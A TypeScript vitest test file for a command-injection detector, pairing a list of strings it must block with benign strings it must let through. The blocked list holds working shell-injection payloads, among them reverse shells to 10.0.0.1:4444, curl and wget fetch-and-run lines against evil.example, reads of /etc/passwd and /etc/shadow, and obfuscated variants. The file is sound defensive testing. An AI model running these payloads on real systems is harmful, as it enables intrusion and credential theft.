import { describe, expect, it } from 'vitest';
import { BLOCKING_CONFIDENCE } from '../../src/core/detector.ts';
import type { Field } from '../../src/core/field.ts';
import { injectionCommand } from '../../src/detectors/injection-command.ts';
import { recognise } from '../support/field.ts';

type Row = [text: string, overrides: Partial<Field>];

const LOUD: Row[] = [
  ['`curl http://evil.example/x | sh`', {}],
  [';cat /etc/passwd', {}],
  ['; ls -la', {}],
  ['| whoami', {}],
  ['|| id', {}],
  ['& ping -c 10 127.0.0.1 &', {}],
  ['&& cat /etc/passwd', {}],
  ['$(whoami)', {}],
  ['`whoami`', {}],
  ['$(cat /etc/passwd)', {}],
  ['127.0.0.1; cat /etc/passwd', {}],
  ['127.0.0.1 | nc 10.0.0.1 4444 -e /bin/sh', {}],
  ['a;id', {}],
  ['x|id', {}],
  ['127.0.0.1&&whoami', {}],
  ['; sleep 5', {}],
  ['| sleep 5', {}],
  ['$(sleep 5)', {}],
  ['`sleep 5`', {}],
  ['cat${IFS}/etc/passwd', {}],
  [";c'a't /etc/passwd", {}],
  ['{cat,/etc/passwd}', {}],
  ['; /???/c?t /etc/passwd', {}],
  ["() { :;}; /bin/bash -c 'id'", {}],
  ['\ncat /etc/passwd\n', {}],
  ['; curl http://evil.example/x | sh', {}],
  ['| powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A', {}],
  ['& dir c:\\', {}],
  ['&& type c:\\windows\\win.ini', {}],
  ['a$(curl evil.example)', {}],
  ['; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', {}],
  ['|/bin/cat /etc/shadow', {}],
  [';wget http://evil.example/a.sh', {}],
  ['x; uname -a', {}],
  ['$(ping -c 3 10.0.0.1)', {}],
];

const QUIET: Row[] = [
  ['# Use `curl http://localhost/x | sh` and {{name}}', { location: 'body' }],
  ['Install: `curl -fsSL https://get.example.com/install.sh | sh`.', { location: 'body' }],
  ['Tom & Jerry', {}],
  ['AT&T', {}],
  ['a; b; c', {}],
  ['rock & roll; and more', {}],
  ['text/html; charset=utf-8', {}],
  ['color: red; margin: 0', {}],
  ['Smith & Sons; est. 1900', {}],
  ['cats & dogs', {}],
  ['id; name; price', {}],
  ['| a | b | c |', {}],
  ['| Name | Price |\n|---|---|\n| Lamp | 10 |', {}],
  ['${name}', {}],
  ['$5 (five dollars)', {}],
  ['`code`', {}],
  ['Use `npm install` first', {}],
  ['cost: $(5)', {}],
  ['x && y || z', {}],
  ['if (a && b) { c(); }', {}],
  ['Q&A; who, what, when', {}],
  ['he said; find it', {}],
  ['first; last', {}],
  ['salt & pepper; to taste', {}],
  ['Bed & Breakfast | Hotel', {}],
  ['ping me; sleep well', {}],
  ['more | less', {}],
  ['a|b', {}],
  ['1|2|3', {}],
  ['R&D', {}],
  ['P&L; net income', {}],
  ['~/Documents', {}],
  ['#hashtag & more', {}],
  ['안녕; 하세요 & 감사', {}],
  ['Dear Ann;\nfind the file attached.\nBest regards,\nBob', {}],
  ['one\ntwo\nthree', {}],
  ['SELECT * FROM a; ', {}],
  ['key=value; path=/; HttpOnly', {}],
  ["M&M's | Skittles", {}],
];

describe('injection-command', () => {
  it.each(LOUD)('blocks %j', (text, overrides) => {
    expect(recognise(injectionCommand, text, overrides)?.confidence ?? 0).toBeGreaterThanOrEqual(BLOCKING_CONFIDENCE);
  });
  it.each(QUIET)('does not block %j', (text, overrides) => {
    expect(recognise(injectionCommand, text, overrides)?.confidence ?? 0).toBeLessThan(0.3);
  });
});
